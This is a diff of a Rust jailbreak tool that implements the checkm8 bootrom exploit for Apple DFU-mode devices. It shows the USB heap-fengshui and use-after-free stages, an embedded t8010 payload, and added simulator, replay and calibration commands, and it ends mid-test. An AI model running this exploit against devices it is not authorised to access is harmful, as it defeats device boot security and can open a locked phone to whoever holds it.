+            std::fs::create_dir_all(dir).map_err(|e| format!("{}: {}", dir, e))?;
+            std::fs::write(&output, data).map_err(|e| format!("{}: {}", output.display(), e))?;
         }
-
-        result >= 0
     }
+    if let Some(dir) = extract_dir {
+        println!("Extracted to {}", dir);
+    }
+    Ok(())
 }
 
-// MARK:  sort of dfu stuff?
-
-fn dfu_check_status(usb_handle: &rusb::DeviceHandle<rusb::Context>, status: u8, state: u8) {
-    unsafe {
-        let mut ret = libusb_control_transfer(
-            usb_handle.as_raw(),
-            0x21,
-            DFU_DNLOAD,
-            0,
-            0,
-            std::ptr::null_mut(),
-            DFU_FILE_SUFFIX_LENGTH.try_into().unwrap(),
-            USB_TIMEOUT,
-        );
+// simulate [--hole <n>] [--pad <hex>] [-v] [<stage>...]
+// Runs checkm8 against the SecureROM model instead of a device, every stage in
+// order unless given a list, and says what went wrong if it didn't pwn it.
+fn simulate_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: simulate [--hole <n>] [--pad <hex>] [-v] [reset|fengshui|uaf|overwrite|payload|execute]...";
+    let mut sim = trace::Recorder::new(sim::DfuSimulator::new(), RECORDING.get(), "checkm8");
+    let soc = sim.get_ref().soc();
+    let mut config = soc.checkm8.ok_or(format!("no checkm8 support for {}", soc.name))?;
+    let payload = payload_for(soc)?;
+    let mut stages = Vec::new();
+    let mut verbose = false;
+    let mut options = args.iter();
+    while let Some(option) = options.next() {
+        match option.as_str() {
+            "--hole" => {
+                let value = options.next().ok_or(usage)?;
+                config.hole = value.parse().map_err(|_| format!("invalid hole count {}", value))?;
+            }
+            "--pad" => {
+                let value = options.next().ok_or(usage)?;
+                config.overwrite_pad = usize::from_str_radix(value.trim_start_matches("0x"), 16)
+                    .map_err(|_| format!("invalid overwrite pad {}", value))?;
+            }
+            "-v" => verbose = true,
+            name => stages.push(checkm8::Stage::from_name(name).ok_or(usage)?),
+        }
+    }
+    if stages.is_empty() {
+        stages = checkm8::STAGES.iter().map(|(stage, _)| *stage).collect();
+    }
+    let profile = timing_profile(None)?;
+    // read the way the exploit does, so a recording replays as a checkm8 session
+    println!("Simulating {}", sim.serial_number().unwrap_or_default());
+
+    let mut result = Ok(());
+    for stage in stages {
+        info!("Stage: {}", stage.name());
+        result = checkm8::run_stage(&mut sim, stage, soc, &config, &profile, payload)
+            .map_err(|e| format!("{}: {}", stage.name(), e));
+        if result.is_err() {
+            break;
+        }
+    }
+    if verbose {
+        for event in sim.get_ref().events() {
+            println!("  {}", event);
+        }
+    }
+    result?;
+    let sim = sim.get_mut();
+    if !sim.is_pwned() {
+        return Err(sim.diagnosis().unwrap_or_default());
     }
+    println!("Pwned: {}", sim.serial_number().unwrap_or_default());
+    Ok(())
 }
 
-fn reset_device(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    println!("Resetting device for checkm8");
-    unsafe {
-        send_usb_control_request_no_data(
-            usb_handle,
-            0x21,
-            DFU_DNLOAD,
-            0,
-            0,
-            DFU_FILE_SUFFIX_LENGTH.try_into().unwrap(),
-        );
-        // send_usb_control_request_no_data(handle, 0x21, DFU_DNLOAD, 0, 0, DFU_FILE_SUFFIX_LENGTH, &transferRet);
-
-        // Send zero length packet to end existing transfer
-
-        // Request image validation like we are about to boot it
-        send_usb_control_request_no_data(usb_handle, 0x21, DFU_DNLOAD, 0, 0, 0);
-        // return send_usb_control_request_no_data(handle, 0x21, DFU_DNLOAD, 0, 0, 0, &transfer_ret)
-
-        // Start a new DFU transfer
-        send_usb_control_request_no_data(
-            usb_handle,
-            0x21,
-            DFU_DNLOAD,
-            0,
-            0,
-            // std::ptr::null_mut(),
-            EP0_MAX_PACKET_SIZE.into(),
-            // USB_TIMEOUT,
-        );
-        // ret = send_usb_control_request_no_data(handle, 0x21, DFU_DNLOAD, 0, 0, EP0_MAX_PACKET_SIZE, &transferRet);
+// checkm8 [--dry-run --cpid <hex>]
+// Pwns the device in DFU. A dry run opens nothing and prints the requests
+// each setup stage would send for the SoC instead; the SecureROM model answers
+// them, so the retry loops go round as often as they would against a device.
+fn checkm8_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: checkm8 [--dry-run --cpid <hex>]";
+    let mut dry_run = false;
+    let mut cpid = None;
+    let mut options = args.iter();
+    while let Some(option) = options.next() {
+        match option.as_str() {
+            "--dry-run" => dry_run = true,
+            "--cpid" => {
+                let value = options.next().ok_or(usage)?;
+                cpid = Some(
+                    u16::from_str_radix(value.trim_start_matches("0x"), 16)
+                        .map_err(|_| format!("invalid CPID {}", value))?,
+                );
+            }
+            _ => return Err(usage.to_string()),
+        }
+    }
+    if !dry_run {
+        if cpid.is_some() {
+            return Err(usage.to_string());
+        }
+        let mut transport = usb_transport(open_by_product_id(0x1227)?, "checkm8");
+        let profile = timing_profile(Some(transport.get_ref().address()))?;
+        exploit(&mut transport, &profile)?;
+        println!("Pwned: {}", transport.serial_number().unwrap_or_default());
+        return Ok(());
+    }
 
-        // Ready
-        // return true;
+    let cpid = cpid.ok_or(usage)?;
+    let soc = soc::soc_for_cpid(cpid).ok_or(format!("unknown CPID 0x{:04x}", cpid))?;
+    let config = soc.checkm8.ok_or(format!("no checkm8 support for {} yet", soc.name))?;
+    let profile = timing_profile(None)?;
+    let recording = trace::Recording::in_memory();
+    let mut transport = trace::Recorder::new(sim::DfuSimulator::new(), Some(&recording), "dry-run");
+    let stages = [
+        checkm8::Stage::Reset,
+        checkm8::Stage::HeapFengshui,
+        checkm8::Stage::TriggerUaf,
+        checkm8::Stage::Overwrite,
+    ];
+    println!(
+        "{} (CPID 0x{:04x}), {} timing profile, nothing is sent",
+        soc.name, soc.cpid, profile.name
+    );
+    for (i, stage) in stages.into_iter().enumerate() {
+        let start = recording.records().len();
+        // the table says it all, the model's timings mean nothing
+        let result = tracing::dispatcher::with_default(&tracing::Dispatch::none(), || {
+            checkm8::run_stage(&mut transport, stage, soc, &config, &profile, &[])
+        });
+        println!();
+        println!("Stage {}: {}", i + 1, stage.name());
+        print_requests(&recording.records()[start..]);
+        result.map_err(|e| format!("{}: {}", stage.name(), e))?;
     }
+    Ok(())
 }
 
-// MARK: stall endpoint, heap fengshui
-//https://habr.com/en/companies/dsec/articles/472762/
-fn stall_usb_request(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    send_usb_control_request_no_data(usb_handle, 0x2, DFU_GETSTATUS, 0, 0x80, 0);
+// One row per request, runs of the same one folded into a count
+fn print_requests(records: &[trace::Record]) {
+    let row = |record: &trace::Record| -> Option<String> {
+        let payload = match record.call {
+            trace::Call::Control { bm_request_type, .. } if bm_request_type & 0x80 == 0 && !record.data.is_empty() => {
+                journal::sha256_hex(&record.data)[..16].to_string()
+            }
+            _ => "-".to_string(),
+        };
+        let answer = match &record.result {
+            Ok(length) => format!("ok {}", length),
+            Err(e) => e.to_string(),
+        };
+        match record.call {
+            trace::Call::Control {
+                bm_request_type,
+                b_request,
+                w_value,
+                w_index,
+                w_length,
+                timeout,
+            } => Some(format!(
+                "  {:<13}  {:<8}  {:<6}  {:<6}  {:<7}  {:<7}  {:<16}  {}",
+                format!("0x{:02x}", bm_request_type),
+                format!("0x{:02x}", b_request),
+                format!("0x{:04x}", w_value),
+                format!("0x{:04x}", w_index),
+                w_length,
+                timeout,
+                payload,
+                answer
+            )),
+            trace::Call::Reset => Some(format!("  {:<75}  {}", "USB reset", answer)),
+            _ => None,
+        }
+    };
+    println!(
+        "  {:<13}  {:<8}  {:<6}  {:<6}  {:<7}  {:<7}  {:<16}  model answer",
+        "bmRequestType", "bRequest", "wValue", "wIndex", "wLength", "timeout", "payload"
+    );
+    let rows: Vec<String> = records.iter().filter_map(row).collect();
+    let mut i = 0;
+    while i < rows.len() {
+        let count = rows[i..].iter().take_while(|other| **other == rows[i]).count();
+        if count > 1 {
+            println!("{}  (x{})", rows[i], count);
+        } else {
+            println!("{}", rows[i]);
+        }
+        i += count;
+    }
 }
 
-fn checkm8_send_leaking_zlp(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    send_usb_control_request_no_data(usb_handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0x40);
+// replay <trace> <checkm8|dfu-helper>
+// Reruns what made a recorded session against the trace instead of a device,
+// and fails unless it makes exactly the calls the recorded run made.
+fn replay_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: replay <trace> <checkm8|dfu-helper>";
+    let [path, label] = args else {
+        return Err(usage.to_string());
+    };
+    if label != "checkm8" && label != "dfu-helper" {
+        return Err(usage.to_string());
+    }
+    let mut replay = trace::Replay::open(std::path::Path::new(path), label)?;
+    println!("Replaying {} calls from {}", replay.call_count(), path);
+    let result = match label.as_str() {
+        "checkm8" => exploit(&mut replay, &timing_profile(None)?),
+        _ => dfu_helper(&mut recovery::RecoveryClient::new(&mut replay), |_, _| {}),
+    };
+    // a divergence explains whatever error the run ended with
+    replay.finish()?;
+    result?;
+    println!("Replay matched");
+    Ok(())
 }
 
-fn checkm8_send_normal_zlp(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    send_usb_control_request_no_data(usb_handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0xC1);
+// usbip list <host[:port]>
+// usbip serve [<address>]
+// Lists what a USB/IP server exports, or exports the SecureROM model (on
+// 127.0.0.1:3240 by default) so --usbip can be tried without a device.
+fn usbip_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: usbip list <host[:port]> | usbip serve [<address>]";
+    match args.first().map(|arg| arg.as_str()) {
+        Some("list") => {
+            let server = args.get(1).ok_or(usage)?;
+            for device in usbip::list_devices(server)? {
+                println!(
+                    "{}: {:04x}:{:04x} ({}) on bus {} device {}",
+                    device.busid,
+                    device.vendor_id,
+                    device.product_id,
+                    mode_name(device.product_id),
+                    device.busnum,
+                    device.devnum
+                );
+            }
+            Ok(())
+        }
+        Some("serve") => {
+            let address = match args.get(1) {
+                Some(address) => address.clone(),
+                None => format!("127.0.0.1:{}", usbip::USBIP_PORT),
+            };
+            let exported = usbip::ExportedDevice {
+                path: "/sys/devices/simulated/usb1/1-1".to_string(),
+                busid: "1-1".to_string(),
+                busnum: 1,
+                devnum: 2,
+                // USB_SPEED_HIGH
+                speed: 3,
+                vendor_id: 0x5ac,
+                product_id: 0x1227,
+                bcd_device: 0,
+                device_class: 0,
+                device_subclass: 0,
+                device_protocol: 0,
+                configuration_value: 1,
+                num_configurations: 1,
+                num_interfaces: 1,
+                // DFU
+                interfaces: vec![(0xfe, 1, 0)],
+            };
+            let listener = std::net::TcpListener::bind(&address).map_err(|e| format!("{}: {}", address, e))?;
+            let mut sim = sim::DfuSimulator::new();
+            println!("Serving {} as {} on {}", sim.serial_number().unwrap_or_default(), exported.busid, address);
+            usbip::serve(listener, &mut sim, &exported)
+        }
+        _ => Err(usage.to_string()),
+    }
 }
 
-async fn checkm8_stall(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    let mut usb_abort_timeout = 10;
-    let mut counter = 0;
-    while (send_usb_control_request_async_no_data(
-        usb_handle,
-        0x80,
-        DFU_ABORT,
-        0x304,
-        0xA,
-        0xC0,
-        usb_abort_timeout,
-    ))
-    .await
-    {
-        // shorten timer to hopefully abort the transfer halfway thru
-        send_usb_control_request_async_no_data(usb_handle,
-            0x80,
-            DFU_ABORT,
-            0x304,
-            0xA,
-            0x40,
-            1
-        ).await;
-        usb_abort_timeout = (usb_abort_timeout + 1) % 10;
-        if counter < 500 {
-            counter += 1;
-        } else {
-            break;
+// profile [<bus>]
+// Lists the timing profiles the way a profiles file sets them, or shows the
+// host controller behind a bus and the profile it gets.
+fn profile_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: profile [<bus>]";
+    match args {
+        [] => {
+            for (i, profile) in profiles().all().iter().enumerate() {
+                if i > 0 {
+                    println!();
+                }
+                print!("{}", profile.to_config());
+            }
+            Ok(())
+        }
+        [bus] => {
+            let bus: u16 = bus.parse().map_err(|_| usage)?;
+            let controller = timing::detect(sysfs_root(), bus);
+            match &controller {
+                Some(controller) => println!("Bus {}: {} at {}", bus, controller, controller.path.display()),
+                None => println!("Bus {}: no controller found under {}", bus, sysfs_root().display()),
+            }
+            let profile = match PROFILE_NAME.get() {
+                Some(_) => timing_profile(None)?,
+                None => profiles().for_controller(controller.as_ref()).clone(),
+            };
+            print!("{}", profile.to_config());
+            Ok(())
         }
+        _ => Err(usage.to_string()),
     }
 }
 
-async fn heap_fengshui(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    println!("Stage 1: heap fengshui");
-    checkm8_stall(usb_handle).await;
-    // Leak one zlp and stall the endpoint.
-    println!("Sending zero length packets");
-    // Send enough packets to fill the hole
-    let mut config_hole = 5;
-    while (config_hole > 0) {
-        // println!("ZLP");
-        checkm8_send_normal_zlp(usb_handle);
-        config_hole -=1;
+// calibrate [--delays <first>-<last>] [--trials <n>] [--name <profile>]
+// Times how this host cuts transfers short on a DFU device, without
+// exploiting it, and prints a timing profile for this machine and port.
+fn calibrate_command(args: &[String]) -> Result<(), String> {
+    let usage = "usage: calibrate [--delays <first>-<last>] [--trials <n>] [--name <profile>]";
+    let mut delays = (1, 20);
+    let mut trials = 5;
+    let mut name = None;
+    let mut options = args.iter();
+    while let Some(option) = options.next() {
+        let value = options.next().ok_or(usage)?;
+        match option.as_str() {
+            "--delays" => {
+                let (first, last) = value.split_once('-').unwrap_or((value, value));
+                delays = match (first.parse::<u32>(), last.parse::<u32>()) {
+                    (Ok(first), Ok(last)) if 0 < first && first <= last => (first, last),
+                    _ => return Err(format!("invalid delays {}", value)),
+                };
+            }
+            "--trials" => {
+                trials = value
+                    .parse::<u32>()
+                    .ok()
+                    .filter(|&trials| trials > 0)
+                    .ok_or(format!("invalid trials {}", value))?
+            }
+            "--name" => name = Some(value.clone()),
+            _ => return Err(usage.to_string()),
+        }
     }
-    // Add another leaking packet the end of the hole
-    checkm8_send_leaking_zlp(usb_handle);
-}
 
-fn send_abort(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    let unsafe_handle = usb_handle.as_raw();
-    unsafe {
-        libusb_control_transfer(unsafe_handle, 0x21, 0x4, 0, 0, std::ptr::null_mut(), 0, 0);
+    let mut transport = usb_transport(open_by_product_id(0x1227)?, "calibrate");
+    let (bus, address) = transport.get_ref().address();
+    let base = timing_profile(Some((bus, address)))?;
+    let mut stalls = Vec::new();
+    let mut uafs = Vec::new();
+    println!("delay  stalled  missed  early | clean  partial (most)  not armed  early");
+    for delay in delays.0..=delays.1 {
+        let stall = calibrate::measure_stall(&mut transport, delay, trials, &base)?;
+        let uaf = calibrate::measure_uaf(&mut transport, delay, trials)?;
+        let partial = match uaf.partial.iter().max() {
+            Some(most) => format!("{} ({}B)", uaf.partial.len(), most),
+            None => "0".to_string(),
+        };
+        println!(
+            "{:>3}ms  {:>7}  {:>6}  {:>5} | {:>5}  {:>14}  {:>9}  {:>5}",
+            delay, stall.stalled, stall.missed, stall.completed, uaf.clean, partial, uaf.not_armed, uaf.completed
+        );
+        stalls.push(stall);
+        uafs.push(uaf);
     }
-    // send_usb_control_request_no_data(handle, 0x21, 0x4, 0, 0, 0, NULL);
-}
 
-async fn trigger_uaf(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    //     1. Start a **control request transfer** with **data phase**
-    // 	        1. Interrupt the transfer halfway
-    //     2. Issue a **DFU abort** (0x21, 4), which frees the USB buffer
-    // 	        1. DFU abort will cause us to reenter, which **restarts the USB stack and reallocates our buffer**
-    //     3. Finish the interrupted transfer.
-    // 	        1. **Send data phase packets** once DFU is re-entered.
-    //     4. The data will be `memcpy`d on top of the freed pointer.
-    println!("Stage 2: trigger uaf");
-    let mut usb_timeout = 10;
-    let mut counter = 500;
-    if counter > 0 {
-    while (send_usb_control_request_async_no_data(
-        usb_handle,
-        0x21,
-        DFU_DNLOAD,
-        0,
-        0,
-        2048,
-        usb_timeout)
-    ).await {
-        // overwrite padding
-        println!("overwrite padding");
-        usb_timeout = (usb_timeout + 1) % 10;
-        counter -=1;
-        send_usb_control_request_no_data(usb_handle, 0, 0, 0, 0,  0x5c0 - 10); // overwritePadding
+    let mut profile = calibrate::recommend(&base, &stalls, &uafs)?;
+    if let Some(name) = name {
+        profile.name = name;
     }
+    println!();
+    match USBIP_SERVER.get() {
+        Some(server) => println!("# over USB/IP from {}, bus {} device {}", server, bus, address),
+        None => {
+            let port = timing::port_path(sysfs_root(), bus, address).unwrap_or(format!("bus {} device {}", bus, address));
+            match timing::detect(sysfs_root(), bus) {
+                Some(controller) => println!("# {} on {}", port, controller),
+                None => println!("# {}", port),
+            }
+        }
+    }
+    println!("# measured from {}, {} trials per delay", base.name, trials);
+    print!("{}", profile.to_config());
+    Ok(())
 }
-    send_abort(&usb_handle);
+
+// Options that go before the command and apply to all of it:
+//   -v/-q (repeatable): more or less on the console
+//   --log-json <file>: everything down to debug as JSON lines, for sending in
+//   --record <file>, --pcap <file>: every handle it opens, as a trace to
+//     replay or a usbmon capture for Wireshark
+//   --usbip <host[:port]>: use the devices that USB/IP server exports
+//   --usbfs-timing unit=<us>,poll=<us>,discard=<ms>: how usbfs times
+//     transfers, built with that feature
+//   --profile <name>: checkm8's timing profile, rather than the one for the
+//     host controller
+//   --profiles <file>: profile overrides, ~/.ra1n-oxide/profiles.conf if
+//     there is one
+//   --sysfs-root <dir>: where to look for the host controller instead of /sys
+fn global_options(args: &mut Vec<String>) -> Result<(), String> {
+    let usage = "usage: [-v|-q]... [--log-json <file>] [--record <file>] [--pcap <file>] [--usbip <host[:port]>] [--profile <name>] [--profiles <file>] [--sysfs-root <dir>] [--usbfs-timing unit=<us>,poll=<us>,discard=<ms>] [command]";
+    let mut verbosity = 0;
+    let mut log_json = None;
+    let mut trace = None;
+    let mut pcap = None;
+    let mut profiles = None;
+    let mut sysfs_root = None;
+    while let Some(option) = args.get(1).cloned() {
+        let path = match option.as_str() {
+            "-v" | "-q" => {
+                verbosity += if option == "-v" { 1 } else { -1 };
+                args.remove(1);
+                continue;
+            }
+            "--usbip" => {
+                let server = args.get(2).ok_or(usage)?.clone();
+                let _ = USBIP_SERVER.set(server);
+                args.drain(1..3);
+                continue;
+            }
+            #[cfg(feature = "usbfs")]
+            "--usbfs-timing" => {
+                let knobs = args.get(2).ok_or(usage)?;
+                let timing = usbfs::Timing::parse(knobs).ok_or(format!("invalid usbfs timing {}", knobs))?;
+                let _ = USBFS_TIMING.set(timing);
+                args.drain(1..3);
+                continue;
+            }
+            "--profile" => {
+                let name = args.get(2).ok_or(usage)?.clone();
+                let _ = PROFILE_NAME.set(name);
+                args.drain(1..3);
+                continue;
+            }
+            "--profiles" => &mut profiles,
+            "--sysfs-root" => &mut sysfs_root,
+            "--log-json" => &mut log_json,
+            "--record" => &mut trace,
+            "--pcap" => &mut pcap,
+            _ => break,
+        };
+        *path = Some(std::path::PathBuf::from(args.get(2).ok_or(usage)?));
+        args.drain(1..3);
+    }
+    init_logging(verbosity, log_json.as_deref())?;
+    let profiles = match profiles {
+        Some(path) if !path.exists() => return Err(format!("{}: no such file", path.display())),
+        Some(path) => timing::Profiles::load(&path)?,
+        None => timing::Profiles::load(&timing::default_config())?,
+    };
+    let _ = PROFILES.set(profiles);
+    if let Some(root) = sysfs_root {
+        let _ = SYSFS_ROOT.set(root);
+    }
+    if trace.is_some() || pcap.is_some() {
+        let _ = RECORDING.set(trace::Recording::create(trace.as_deref(), pcap.as_deref())?);
+    }
+    Ok(())
 }
 
-fn overwrite(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    println!("Stage 3: overwrite");
-    // TODO: payload and whatever, skid the switch case from Achilles
+// Info and up on the console by default; -v adds the transfers, -vv their
+// data. Spans are logged as they close, with how long they took.
+fn init_logging(verbosity: i32, json: Option<&std::path::Path>) -> Result<(), String> {
+    use std::io::IsTerminal;
+    use tracing_subscriber::filter::LevelFilter;
+    use tracing_subscriber::fmt::format::FmtSpan;
+    use tracing_subscriber::prelude::*;
+
+    let level = match verbosity {
+        ..=-2 => LevelFilter::ERROR,
+        -1 => LevelFilter::WARN,
+        0 => LevelFilter::INFO,
+        1 => LevelFilter::DEBUG,
+        _ => LevelFilter::TRACE,
+    };
+    let console = tracing_subscriber::fmt::layer()
+        .with_ansi(std::io::stdout().is_terminal())
+        .with_target(false)
+        .without_time()
+        .with_span_events(FmtSpan::CLOSE)
+        .with_filter(level);
+    let json = match json {
+        Some(path) => {
+            let file = std::fs::File::create(path).map_err(|e| format!("{}: {}", path.display(), e))?;
+            let layer = tracing_subscriber::fmt::layer()
+                .json()
+                .with_writer(std::sync::Mutex::new(file))
+                .with_span_events(FmtSpan::CLOSE)
+                .with_filter(level.max(LevelFilter::DEBUG));
+            Some(layer)
+        }
+        None => None,
+    };
+    tracing_subscriber::registry()
+        .with(console)
+        .with(json)
+        .try_init()
+        .map_err(|e| e.to_string())
+}
 
-    stall_usb_request(usb_handle);
-    checkm8_send_leaking_zlp(usb_handle);
+#[tokio::main]
+async fn main() {
+    let mut args: Vec<String> = std::env::args().collect();
+    if let Err(e) = global_options(&mut args) {
+        println!("Error: {}", e);
+        std::process::exit(1);
+    }
+    let result = match args.get(1).map(|arg| arg.as_str()) {
+        Some("dump") => dump_command(&args[2..]).await,
+        Some("decrypt-kbag") => decrypt_kbag_command(&args[2..]).await,
+        Some("decrypt") => decrypt_command(&args[2..]),
+        Some("extract") => extract_command(&args[2..]),
+        Some("repack") => repack_command(&args[2..]),
+        Some("boot") => boot_command(&args[2..]).await,
+        Some("patch-iboot") => patch_iboot_command(&args[2..]),
+        Some("ipsw") => ipsw_command(&args[2..]).await,
+        Some("simulate") => simulate_command(&args[2..]),
+        Some("replay") => replay_command(&args[2..]),
+        Some("checkm8") => checkm8_command(&args[2..]),
+        Some("usbip") => usbip_command(&args[2..]),
+        Some("profile") => profile_command(&args[2..]),
+        Some("calibrate") => calibrate_command(&args[2..]),
+        _ => jailbreak().await,
+    };
+    if let Err(e) = result {
+        error!("{}", e);
+        std::process::exit(1);
+    }
+}
 
-    send_usb_control_request_no_data(usb_handle, 2, DFU_GETSTATUS, 0, 0x80, 0);
-    send_usb_control_request_no_data(usb_handle, 2, DFU_GETSTATUS, 0, 0x80, 0);
+// MARK: flow
+// Images for the boot transitions. They're stitched on first use, once we
+// know the ECID for a dummy IM4M.
+struct BootSet {
+    images: boot::BootImages,
+    im4m: Option<img4::Im4m>,
+    stitched: Option<boot::BootImages>,
+}
 
-    // Send overwrite, checking that endpoint is still stalled
-    if send_usb_control_request(usb_handle, 0, 0, 0, 0, YOLO_T8010_BIN.as_ptr() as *mut c_void, YOLO_T8010_BIN_LEN.try_into().unwrap()) {
-        // This is the trigger for execution
-        send_usb_control_request_no_data(usb_handle, 0x21, DFU_CLRSTATUS, 0, 0, 0);
-        println!("Checkmate");
+impl BootSet {
+    fn stitched(&mut self, ecid: u64) -> Result<&boot::BootImages, String> {
+        if self.stitched.is_none() {
+            let im4m = self.im4m.clone().unwrap_or_else(|| img4::Im4m::dummy(ecid));
+            self.stitched = Some(self.images.stitch(&im4m)?);
+        }
+        Ok(self.stitched.as_ref().unwrap())
     }
 }
 
-fn send_payload(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    println!("stage 3.5: send payload");
+// Drives the real device for the flow: detection by USB product ID (plus the
+// serial for DFU and recovery, and usbmuxd for normal mode), and a fresh
+// handle for every transition.
+struct UsbHost {
+    boot: Option<BootSet>,
+    // lockdownd answers for the normal mode device, so polling doesn't
+    // handshake over and over
+    normal: Option<lockdown::DeviceInfo>,
 }
 
-async fn checkm8(usb_handle: &rusb::DeviceHandle<rusb::Context>) {
-    // reset_device(&usb_handle);
-    // heap_fengshui(&usb_handle).await;
-    // trigger_uaf(&usb_handle).await;
-    overwrite(&usb_handle);
-    send_payload(&usb_handle);
+// Not recorded, detection polls this every 100ms
+fn read_serial(product_id: u16) -> Option<serial::DeviceSerial> {
+    let serial = open_by_product_id(product_id).ok()?.serial_number()?;
+    serial::DeviceSerial::parse(&serial)
 }
 
-#[tokio::main]
-async fn main() {
-    let find_device_in_dfu_task = find_device_in_dfu();
-    let find_device_in_recovery_task = find_device_in_recovery();
-    let find_apple_device_task = find_apple_device();
-
-    tokio::select! {
-        Some(device) = find_device_in_dfu_task => {
-            let device_handle = device.open().unwrap();
-            checkm8(&device_handle).await;
+impl UsbHost {
+    fn boot_set(&mut self) -> Result<&mut BootSet, String> {
+        self.boot.as_mut().ok_or("no images to boot".to_string())
+    }
+}
+
+impl flow::Host for UsbHost {
+    fn detect(&mut self) -> Option<flow::Detection> {
+        let detection = |mode, serial| Some(flow::Detection { mode, serial });
+        if device_present(0x1227) {
+            let serial = read_serial(0x1227)?;
+            let mode = if serial.is_pwned() {
+                flow::Mode::PwnedDfu
+            } else {
+                flow::Mode::Dfu
+            };
+            return detection(mode, Some(serial));
         }
-        Some(device) = find_device_in_recovery_task => {
-            let device_handle = device.open().unwrap();
-            dfu_helper(&device_handle);
-            checkm8(&device_handle).await;
+        if device_present(0x1281) {
+            return detection(flow::Mode::Recovery, read_serial(0x1281));
         }
-        Some(device) = find_apple_device_task => {
-            kick_into_recovery().await;
-            dfu_helper(&device);
-            checkm8(&device).await;
+        if device_present(0x4141) {
+            return detection(flow::Mode::Pongo, None);
         }
-        else => {
-            // Handle the case where none of the tasks succeed
-            println!("Device detection failed.");
+        let udid = lockdown::devices().ok()?.into_iter().next()?;
+        if self.normal.as_ref().is_none_or(|info| info.udid != udid) {
+            self.normal = lockdown::DeviceInfo::query(&udid).ok();
+        }
+        detection(flow::Mode::Normal, self.normal.as_ref().map(|info| info.serial()))
+    }
+
+    async fn perform(&mut self, transition: flow::Transition) -> Result<(), String> {
+        match transition {
+            flow::Transition::EnterRecovery => {
+                self.normal = Some(kick_into_recovery()?);
+                Ok(())
+            }
+            flow::Transition::EnterDfu => {
+                let transport = usb_transport(open_by_product_id(0x1281)?, "dfu-helper");
+                println!("Press any character when you are ready to enter DFU");
+                std::io::stdin().read_line(&mut String::new()).map_err(|e| e.to_string())?;
+                dfu_helper(&mut recovery::RecoveryClient::new(transport), timer)
+            }
+            flow::Transition::Exploit => {
+                let mut transport = usb_transport(open_by_product_id(0x1227)?, "checkm8");
+                let profile = timing_profile(Some(transport.get_ref().address()))?;
+                exploit(&mut transport, &profile)
+            }
+            flow::Transition::BootPongo => Err("booting pongoOS isn't supported yet".to_string()),
+            flow::Transition::SendIbss => {
+                let mut pwned = open_pwned_dfu().await?;
+                let images = self.boot_set()?.stitched(pwned.serial().ecid)?;
+                boot::send_ibss(pwned.dfu(), &images.ibss)
+            }
+            flow::Transition::SendIbec => {
+                let ecid = read_serial(0x1281).ok_or("couldn't read the iBSS serial")?.ecid;
+                let images = self.boot_set()?.stitched(ecid)?;
+                boot::send_ibec(&mut open_recovery("ibec")?, &images.ibec)
+            }
+            flow::Transition::BootKernel => {
+                let ecid = read_serial(0x1281).ok_or("couldn't read the iBEC serial")?.ecid;
+                let images = self.boot_set()?.stitched(ecid)?;
+                boot::boot_kernel(&mut open_recovery("kernel")?, images, |step| info!("{}", step))
+            }
+        }
+    }
+
+    fn details(&self, transition: flow::Transition) -> Vec<(String, String)> {
+        let images = self.boot.as_ref().map(|boot| &boot.images);
+        match (transition, images) {
+            (flow::Transition::EnterRecovery, _) => match &self.normal {
+                Some(info) => vec![
+                    ("product".to_string(), info.product_type.clone()),
+                    ("ios".to_string(), info.product_version.clone()),
+                    ("build".to_string(), info.build_version.clone()),
+                ],
+                None => Vec::new(),
+            },
+            (flow::Transition::Exploit, _) => vec![flow::fingerprint("payload", YOLO_T8010_BIN)],
+            (flow::Transition::SendIbss, Some(images)) => vec![flow::fingerprint("ibss", &images.ibss)],
+            (flow::Transition::SendIbec, Some(images)) => vec![flow::fingerprint("ibec", &images.ibec)],
+            (flow::Transition::BootKernel, Some(images)) => {
+                vec![flow::fingerprint("kernelcache", &images.kernelcache)]
+            }
+            _ => Vec::new(),
         }
     }
 }
-  
 
+async fn jailbreak() -> Result<(), String> {
+    let mut flow = flow::Flow::new(UsbHost { boot: None, normal: None }, |event| info!("{}", event))
+        .with_journal(journal::default_dir());
+    flow.run(flow::Mode::PwnedDfu).await
+}
 
 // MARK: t8010 payload
 static YOLO_T8010_BIN: &[u8] = &[
@@ -1051,5 +1629,46 @@ static YOLO_T8010_BIN: &[u8] = &[
         0xeb, 0xff, 0xff, 0x17, 0x8c, 0x5d, 0x05, 0x13, 0x08, 0x80, 0xa2, 0x52,
         0x88, 0x65, 0x00, 0x33, 0x48, 0x01, 0x00, 0xb9, 0xc0, 0x03, 0x5f, 0xd6
 ];
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::transport::TransferError;
+
+    // The simulator with an A10X's serial, which checkm8 has no payload for
+    struct T8011(sim::DfuSimulator);
+
+    impl Transport for T8011 {
+        fn control_transfer(
+            &mut self,
+            bm_request_type: u8,
+            b_request: u8,
+            w_value: u16,
+            w_index: u16,
+            data: &mut [u8],
+            timeout: u32,
+        ) -> Result<usize, TransferError> {
+            self.0.control_transfer(bm_request_type, b_request, w_value, w_index, data, timeout)
+        }
+
+        fn bulk_transfer(&mut self, endpoint: u8, data: &mut [u8], timeout: u32) -> Result<usize, TransferError> {
+            self.0.bulk_transfer(endpoint, data, timeout)
+        }
 
-const YOLO_T8010_BIN_LEN: usize = 4836;
\ No newline at end of file
+        fn reset(&mut self) -> Result<(), TransferError> {
+            self.0.reset()
+        }
+
+        fn serial_number(&mut self) -> Option<String> {
+            Some(self.0.serial_number()?.replace("CPID:8010", "CPID:8011"))
+        }
+    }
+
+    #[test]
+    fn exploit_rejects_a_soc_without_a_payload() {
+        let mut device = T8011(sim::DfuSimulator::new());
+        let untouched = device.0.events().len();
